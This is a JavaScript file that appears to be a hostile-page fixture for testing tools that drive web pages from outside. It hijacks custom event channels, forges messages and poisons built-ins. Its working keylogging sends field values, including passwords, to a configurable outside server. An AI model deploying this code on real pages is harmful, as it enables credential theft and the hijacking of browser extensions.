/**
 * A page that attacks whoever works it from outside. To run before the page's own scripts, with options that say how.
 *
 * It learns the names of events that are no events of the DOM's: from every constructor and method that it can wrap, and
 * from listeners. Such a name is a channel; on each it listens, intercepts, and answers.
 */
(function hostile(/** @type {any} */ options) {
  const { apply, construct, ownKeys } = Reflect;
  const { defineProperty, getOwnPropertyDescriptor, getPrototypeOf } = Object;
  const { addEventListener: add, removeEventListener: remove, dispatchEvent: dispatch } = EventTarget.prototype;
  const { stopImmediatePropagation, composedPath, preventDefault } = Event.prototype;
  const focus = HTMLElement.prototype.focus;
  const matches = Element.prototype.matches;
  const append = Node.prototype.appendChild;
  const { open, write, close, querySelector: find } = Document.prototype;
  const Input_ = HTMLInputElement;
  const Select = HTMLSelectElement;
  /** @param {any} owner @param {string[]} names */
  const getters = (owner, ...names) => names.map((name) => /** @type {any} */ (getOwnPropertyDescriptor(owner, name)).get);
  const [idOf, tagOf] = getters(Element.prototype, "id", "localName");
  const [kindOf, valueOf, checkedOf, filesOf] = getters(Input_.prototype, "type", "value", "checked", "files");
  const [nameOf] = getters(File.prototype, "name");
  const [chosenOf] = getters(Select.prototype, "selectedIndex");
  const rangesOf = InputEvent.prototype.getTargetRanges;
  const [submitterOf] = getters(SubmitEvent.prototype, "submitter");
  const [typeOf, targetOf] = getters(Event.prototype, "type", "target");
  const [trustedOf] = getters(new Event("x"), "isTrusted");
  const { Image: Picture, CustomEvent: Custom, SubmitEvent: Submit, InputEvent: Input, StaticRange: Static, Proxy: Wrapper } = window;
  const encode = encodeURIComponent;
  const { random } = Math;
  const { indexOf, slice, lastIndexOf } = String.prototype;

  const KEYS = ["keydown", "keypress", "beforeinput", "input", "keyup"];
  const MOUSE = ["pointerdown", "mousedown", "pointerup", "mouseup", "click", "mousemove", "pointermove", "wheel"];
  const OTHER = ["focusin", "focusout", "focus", "blur", "change", "submit", "select", "paste", "copy", "drop", "dragover", "dragenter", "dragstart", "dragend"];
  /** Events that the DOM knows and that are no handler's attribute. */
  const PLAIN = ["DOMContentLoaded", "readystatechange", "focusin", "focusout", "compositionstart", "compositionend", "fullscreenchange"];
  /** What channels are known to carry; on others, everything is answered with. */
  const CARRIED = ["timers", "said", "saying", "readings", "root", "element", "elements", "drop", "drops", "holding", "key", "limits"];

  /** @type {Record<string, any>} */
  const channels = { __proto__: null };
  /** Those on which questions are asked, to be answered on others. @type {Record<string, boolean>} */
  const bases = { __proto__: null };
  /** @type {Record<string, boolean>} */
  const judged = { __proto__: null };
  let busy = false;
  /** How many events of channels there were since the focus came to something else than what is stolen for. */
  let heardNow = 0;

  /** Report to the hostile web server. @param {string} what */
  function report(what) {
    new Picture().src = `${options.report}?what=${encode(what)}&n=${random()}`;
  }

  /** @param {string} selector */
  const one = (selector) => apply(find, document, [selector]);
  /** @param {string} text @param {string} part */
  const has = (text, part) => apply(indexOf, text, [part]) >= 0;
  /** @param {any[]} list @param {unknown} item */
  function listed(list, item) {
    for (let i = 0; i < list.length; i++) if (list[i] === item) return true;
    return false;
  }
  /** What stands after the last colon of a channel's name. @param {string} name */
  function carried(name) {
    const part = apply(slice, name, [apply(lastIndexOf, name, [":"]) + 1]);
    return part !== name && listed(CARRIED, part) ? part : "";
  }

  /** Whether a name is none of the DOM's. @param {string} name */
  function isChannel(name) {
    if (name in judged) return judged[name];
    const on = `on${name}`;
    const known = on in window || on in document || listed(PLAIN, name) || name.length < 4 || has(name, "DOM") || on in HTMLMediaElement.prototype;
    const kinds = ["XMLHttpRequest", "IDBRequest", "IDBOpenDBRequest", "FileReader", "MessagePort", "WebSocket", "Worker", "EventSource", "MediaQueryList", "VisualViewport"];
    let elsewhere = false;
    for (let i = 0; i < kinds.length; i++) {
      const kind = /** @type {any} */ (window)[/** @type {string} */ (kinds[i])];
      if (kind && kind.prototype && on in kind.prototype) elsewhere = true;
    }
    return (judged[name] = !known && !elsewhere);
  }

  /** @param {unknown} given */
  function learn(given) {
    if (typeof given !== "string" || given in channels || !isChannel(given)) return;
    channels[given] = true;
    const base = apply(slice, given, [0, Math.max(0, apply(lastIndexOf, given, [":"]))]);
    listen(given);
    if (base) {
      bases[base] = true;
      learn(base);
    }
  }

  /** @param {string} name */
  function listen(name) {
    apply(add, window, [name, intercept, true]);
    apply(add, document, [name, answer, true]);
    apply(add, document, [name, answer, false]);
  }

  /** The node that an event carries. @param {Event} event */
  function nodeIn(event) {
    if (event instanceof Submit) return apply(submitterOf, event, []);
    if (event instanceof Input) {
      const ranges = apply(rangesOf, event, []);
      return ranges.length ? ranges[0].startContainer : null;
    }
    return apply(composedPath, event, [])[0];
  }

  /** @param {string} name @param {any} node */
  function sendNode(name, node) {
    if (node instanceof HTMLElement) apply(dispatch, document, [new Submit(name, { submitter: node, bubbles: true, cancelable: true })]);
    const place = { startContainer: node, startOffset: 0, endContainer: node, endOffset: 0 };
    apply(dispatch, document, [new Input(name, { targetRanges: [new Static(place)] })]);
  }

  /** @param {string} name @param {any} value */
  function sendValue(name, value) {
    try {
      apply(dispatch, document, [new Custom(name, { detail: value, bubbles: true, cancelable: true })]);
    } catch {
      // Whoever listens in this world fails for itself.
    }
  }

  /** Before the others hear an event of a channel. @param {Event} event */
  function intercept(event) {
    if (busy) return;
    const name = apply(typeOf, event, []);
    const what = carried(name);
    const { swap, mute, steal } = options;
    // The last to hear it has the last word.
    apply(remove, document, [name, answer, false]);
    apply(add, document, [name, answer, false]);
    heardNow += 1;
    if (steal && ((steal.on && (listed(steal.on, "channel") || listed(steal.on, what))) || steal.nth === heardNow)) grab();
    if (mute && (listed(mute, "*") || listed(mute, what) || !(what || name in bases))) apply(stopImmediatePropagation, event, []);
    if (!swap) return;
    const node = nodeIn(event);
    if (!(node instanceof Element) || !apply(matches, node, [swap.of])) return;
    apply(stopImmediatePropagation, event, []);
    busy = true;
    sendNode(name, one(swap.give));
    busy = false;
  }

  /** After the others have heard it. @param {Event} event */
  function answer(event) {
    if (busy || !(options.answers || options.commands || options.nodes)) return;
    busy = true;
    const name = apply(typeOf, event, []);
    const what = carried(name);
    const base = apply(slice, name, [0, Math.max(0, apply(lastIndexOf, name, [":"]))]);
    const answers = options.answers || {};
    for (const kind in answers) {
      if (name in bases || (what && kind !== "*" && kind !== what)) continue;
      const values = answers[kind];
      for (let i = 0; i < values.length; i++) sendValue(name, values[i]);
      // What was said counts for an element.
      const about = one(options.about || "#go");
      if (what === "said" && base && about) sendNode(`${base}:saying`, about);
    }
    const commands = options.commands || [];
    for (let i = 0; i < commands.length; i++) sendValue(base || name, commands[i]);
    const nodes = options.nodes || [];
    for (let i = 0; i < nodes.length; i++) {
      const node = one(nodes[i]);
      if (!node) continue;
      for (let j = 0; j < CARRIED.length; j++) sendNode(`${base || name}:${CARRIED[j]}`, node);
    }
    busy = false;
  }

  /** Take the focus. */
  function grab() {
    const to = one(options.steal.to);
    if (to) apply(focus, to, []);
  }

  let reopened = false;
  /** Write another document in the place of this one. */
  function reopen() {
    if (reopened) return;
    reopened = true;
    apply(open, document, []);
    apply(write, document, [options.reopen.html]);
    apply(close, document, []);
    attend();
  }

  /** Report what a field holds now; its text only where that has just come. @param {string} id @param {any} field @param {boolean} came */
  function tellValue(id, field, came) {
    if (field instanceof Select) report(`${id} ${apply(chosenOf, field, [])}`);
    if (!(field instanceof Input_)) return;
    const kind = apply(kindOf, field, []);
    if (kind === "checkbox") report(`${id} ${apply(checkedOf, field, [])}`);
    else if (kind === "file") report(`${id} ${apply(nameOf, apply(filesOf, field, [])[0], [])}`);
    else if (came) report(`${kind === "password" ? kind : id} ${apply(valueOf, field, [])}`);
  }

  let swapped = false;
  /** @param {Event} event */
  function attack(event) {
    if (busy) return;
    const type = apply(typeOf, event, []);
    const trusted = apply(trustedOf, event, []);
    if (options.log && listed(options.log, type)) {
      const path = apply(composedPath, event, []);
      const target = path.length ? path[0] : apply(targetOf, event, []);
      const isElement = target instanceof Element;
      const id = isElement ? apply(idOf, target, []) || apply(tagOf, target, []) : "document";
      report(`${type} ${trusted ? "trusted" : "made"} ${id}`);
      if (type === "input" || type === "change") tellValue(id, target, type === "input");
    }
    if (options.drops && (type === "drop" || type === "dragover")) apply(preventDefault, event, []);
    if (!trusted) return;
    if (type === "focusin" && options.steal && apply(targetOf, event, []) !== one(options.steal.to)) heardNow = 0;
    const { steal, reparent, exchange, reopen: again } = options;
    if (steal && steal.on && listed(steal.on, type)) {
      grab();
      if (steal.stop) apply(stopImmediatePropagation, event, []);
    }
    if (again && listed(again.on, type)) reopen();
    if (reparent && listed(reparent.on, type)) {
      const what = one(reparent.what);
      if (what) apply(append, document.body, [what]);
    }
    if (exchange && !swapped && listed(exchange.on, type)) {
      swapped = true;
      const first = one(exchange.first);
      const second = one(exchange.second);
      const src = first.src;
      first.src = second.src;
      second.src = src;
    }
  }

  /** Hear everything first. */
  function attend() {
    const lists = [KEYS, MOUSE, OTHER];
    for (let i = 0; i < lists.length; i++) {
      const list = /** @type {string[]} */ (lists[i]);
      for (let j = 0; j < list.length; j++) apply(add, window, [list[j], attack, true]);
    }
    for (const name in channels) listen(name);
  }
  attend();

  // Constructors and methods that show names, and what goes through them.
  const CLASSES = ["Event", "CustomEvent", "SubmitEvent", "InputEvent", "UIEvent", "KeyboardEvent", "MessageEvent", "MouseEvent", "StaticRange", "EventTarget"];
  for (let i = 0; i < CLASSES.length; i++) {
    const name = /** @type {string} */ (CLASSES[i]);
    const native = /** @type {any} */ (window)[name];
    if (!native) continue;
    /** @type {any} */ (window)[name] = new Wrapper(native, {
      construct(target, args, made) {
        learn(args[0]);
        return construct(target, args, made);
      },
    });
  }
  /** @param {any} owner @param {string} name @param {(self: any, args: any[]) => void} note */
  function watch(owner, name, note) {
    const own = getOwnPropertyDescriptor(owner, name);
    if (!own || !own.configurable) return;
    /** @param {Function} native */
    const wrapped = (native) =>
      new Wrapper(native, {
        apply(target, self, args) {
          note(self, args);
          return apply(/** @type {any} */ (target), self, args);
        },
      });
    if (typeof own.value === "function") own.value = wrapped(own.value);
    else if (own.get) own.get = wrapped(own.get);
    defineProperty(owner, name, own);
  }
  const first = (/** @type {any} */ _self, /** @type {any[]} */ args) => learn(args[0]);
  watch(EventTarget.prototype, "addEventListener", first);
  watch(EventTarget.prototype, "removeEventListener", first);
  watch(EventTarget.prototype, "dispatchEvent", (_self, args) => args[0] instanceof Event && learn(apply(typeOf, args[0], [])));
  watch(Document.prototype, "createEvent", () => {});
  watch(Event.prototype, "initEvent", first);
  watch(CustomEvent.prototype, "initCustomEvent", first);
  for (const name of ["setAttribute", "getAttribute", "toggleAttribute"]) watch(Element.prototype, name, () => {});
  watch(window, "postMessage", (_self, args) => learn(args[0]));
  watch(MessagePort.prototype, "postMessage", (_self, args) => learn(args[0]));
  for (const name of ["stringify", "parse"]) watch(JSON, name, first);
  for (const name of ["apply", "construct", "get", "set", "has"]) watch(Reflect, name, (_self, args) => args[2] && learn(args[2][0]));

  // Built-ins of the page's world that lie, or fail, from now on.
  const text = "x";
  /** @type {any[]} */
  const lies = [undefined, null, -1, NaN, 1e308, "", text, {}, [], true, document, () => 0, [[[]]], { length: -1 }, { length: 2 ** 53 }];
  let lie = 0;
  /** @param {any} owner @param {PropertyKey} name @param {string} how */
  function spoil(owner, name, how) {
    const own = owner && getOwnPropertyDescriptor(owner, name);
    if (!own || !own.configurable || name === "constructor") return;
    function bad() {
      if (how === "throw") throw new TypeError("no");
      return lies[lie++ % lies.length];
    }
    if (typeof own.value === "function") own.value = bad;
    else if (own.get) own.get = bad;
    else return;
    defineProperty(owner, name, own);
  }
  /** @type {Record<string, () => any[]>} */
  const FAMILIES = {
    arrays: () => [Array.prototype, Array, Set.prototype, Map.prototype, Uint8Array.prototype, getPrototypeOf(Uint8Array.prototype)],
    json: () => [JSON, Number, Number.prototype, Math, Date.prototype],
    reflect: () => [Reflect, Object, Function.prototype],
    maps: () => [WeakMap.prototype, WeakSet.prototype, WeakRef.prototype, Map.prototype],
    observers: () => [MutationObserver.prototype, IntersectionObserver.prototype, ResizeObserver.prototype],
    elements: () => [Element.prototype, HTMLElement.prototype, Node.prototype, Document.prototype, ShadowRoot.prototype, HTMLInputElement.prototype, DOMTokenList.prototype, NodeList.prototype, Range.prototype, Selection.prototype],
    events: () => [Event.prototype, EventTarget.prototype, CustomEvent.prototype, SubmitEvent.prototype, InputEvent.prototype, KeyboardEvent.prototype],
    strings: () => [String.prototype, String, RegExp.prototype],
    promises: () => [Promise.prototype, Promise],
    globals: () => [CSS, Performance.prototype, Navigator.prototype, History.prototype, Storage.prototype],
  };
  const broken = options.spoil || {};
  for (const family in broken) {
    const owners = /** @type {() => any[]} */ (FAMILIES[family])();
    for (let i = 0; i < owners.length; i++) {
      const names = ownKeys(owners[i]);
      for (let j = 0; j < names.length; j++) spoil(owners[i], /** @type {PropertyKey} */ (names[j]), broken[family]);
    }
  }
  if (options.iterators) {
    for (const owner of [Array.prototype, String.prototype, Set.prototype, Map.prototype, NodeList.prototype, HTMLCollection.prototype, NamedNodeMap.prototype]) {
      defineProperty(owner, Symbol.iterator, {
        configurable: true,
        get() {
          return options.iterators === "throw" ? undefined : endless;
        },
      });
    }
  }
  function endless() {
    let left = 10_000;
    return { next: () => ({ done: !left--, value: document.body }) };
  }
  if (options.classes) {
    const kinds = ["MutationObserver", "WeakMap", "WeakSet", "WeakRef", "Map", "Set", "Proxy", "Promise", "MessageChannel", "CustomEvent", "SubmitEvent", "InputEvent", "StaticRange", "Array", "RegExp", "Date", "URL"];
    for (let i = 0; i < kinds.length; i++) /** @type {any} */ (window)[/** @type {string} */ (kinds[i])] = class {};
  }
  defineProperty(window, "hostile", { value: { report, options, channels, one } });
})
